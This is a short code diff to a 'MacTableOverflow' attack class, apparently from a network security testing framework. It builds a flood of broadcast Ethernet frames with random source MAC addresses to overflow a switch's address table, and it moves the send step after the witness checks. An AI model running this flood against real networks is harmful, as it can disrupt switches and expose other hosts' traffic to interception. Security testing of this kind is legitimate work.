@@ -411,9 +411,9 @@ class MacTableOverflow(Attack):
         for _ in range(max(sizes) + 16):
             src = "02:" + ":".join(f"{rng.randrange(256):02x}" for _ in range(5))
             flood.append(bytes(_ether(src, BROADCAST) / bytes(46)))
-        run = ctx.open()
-        run.send(ctx.at, flood)
         pairs = [(v, ctx.witness(v)) for v in ctx.victims() if v.endpoint in ctx.reach]
+        run = ctx.open()  # after the witnesses' control runs: on a live target a run resets all
+        run.send(ctx.at, flood)
         for victim, witness in pairs:
             if witness is None:
                 continue
